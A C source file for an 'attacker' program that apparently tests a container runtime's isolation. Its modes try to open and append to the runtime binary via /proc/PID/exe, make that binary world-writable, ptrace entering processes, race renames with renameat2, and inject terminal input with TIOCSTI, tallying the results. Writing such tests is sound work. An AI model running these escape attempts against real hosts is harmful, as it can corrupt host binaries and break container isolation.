/*
 * attacker: a process inside a container that waits for those who enter it. Static,
 * since it is to run wherever it is put.
 *
 *     attacker watch FILE NAME     looks at each new process, from before it is there, until it
 *                                  is a program of the container's: can its program's file be
 *                                  opened, and then written to? can it be traced? FILE gets
 *                                  the counts: "refused N opened N writable N traced N". NAME
 *                                  is what /proc/PID/comm calls whoever enters.
 *     attacker seize FILE NAME     lets one that is executed in the container go on only
 *                                  when its file is open, lets everybody write to it, and tries
 *                                  to write to it for ever
 *     attacker flip A B            changes two names for each other, without an end
 *     attacker type                has the terminal on standard input think that somebody typed
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *result_path, *name;
static unsigned long refused, opened, writable, traced;

static void write_result(void)
{
    char text[128];
    int length = snprintf(text, sizeof text,
                          "refused %lu opened %lu writable %lu traced %lu\n",
                          refused, opened, writable, traced);
    int fd = open(result_path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd == -1 || pwrite(fd, text, (size_t)length, 0) != length)
        exit(1);
    close(fd);
}

/* Whoever enters still has the name of the program that has let it in. */
static int has_name(int pid)
{
    char path[64], text[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd == -1)
        return 0;
    ssize_t got = read(fd, text, sizeof text - 1);
    close(fd);
    return got > 0 && strncmp(text, name, strlen(name)) == 0;
}

static void try_to_write(int fd)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_WRONLY | O_CLOEXEC);
    if (again == -1)
        return;
    /* A byte at its end, which no loader looks at. A sealed file can be opened. */
    if (lseek(again, 0, SEEK_END) > 0 && write(again, "!", 1) == 1) {
        writable++;
        write_result();
    }
    close(again);
}

/* Returns whether there is a process of that number that is still ours to look at. */
static int look_at(int pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int error = errno;
    if (fd == -1 && error == ENOENT)
        return 0;
    if (!has_name(pid)) {
        if (fd != -1)
            close(fd);
        return 0;
    }
    if (fd == -1) {
        refused++;
    } else {
        opened++;
        try_to_write(fd);
        close(fd);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        if (has_name(pid))
            traced++;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    write_result();
    return 1;
}

static int exists(int pid)
{
    char path[32];
    snprintf(path, sizeof path, "/proc/%d", pid);
    return access(path, F_OK) == 0;
}

/* Numbers are given in their order: the next process is one of the next. */
static void watch(void)
{
    write_result();
    int next = getpid() + 1;
    for (unsigned turn = 0;; turn++) {
        /* More may have come and gone while we did not run. */
        int ahead = turn % 512 == 0 ? 512 : 8;
        for (int pid = next; pid < next + ahead; pid++)
            if (exists(pid)) {
                while (look_at(pid))
                    ;
                next = pid + 1;
            }
    }
}

/* A script that begins with #!/proc/self/exe made the kernel execute the runtime in here:
 * then its file can be opened, which is no harm while it can not be written to. */
static void seize(void)
{
    int held = -1;
    write_result();
    for (int next = getpid() + 1; held == -1;)
        for (int pid = next; pid < next + 32 && held == -1; pid++) {
            char path[64], where[256] = "";
            struct stat inside, there;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd == -1)
                continue;
            /* One of the container's own is found under its name. */
            if (readlink(path, where, sizeof where - 1) > 0 &&
                fstat(fd, &there) == 0 &&
                (stat(where, &inside) == -1 || inside.st_ino != there.st_ino)) {
                held = fd;
                opened++;
                fchmod(fd, 0757);
                write_result();
            } else {
                close(fd);
            }
        }
    for (;;) {
        try_to_write(held);
        usleep(1000);
        if (writable > 0)
            pause();
    }
}

static void flip(const char *a, const char *b)
{
    for (;;)
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == -1)
            exit(1);
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "flip") == 0)
        flip(argv[2], argv[3]);
    if (argc == 2 && strcmp(argv[1], "type") == 0) {
        int result = ioctl(STDIN_FILENO, TIOCSTI, "x");
        printf("%d\n", result == -1 ? -errno : result);
        return 0;
    }
    if (argc != 4)
        return 2;
    result_path = argv[2];
    name = argv[3];
    if (strcmp(argv[1], "watch") == 0)
        watch();
    if (strcmp(argv[1], "seize") == 0)
        seize();
    return 2;
}
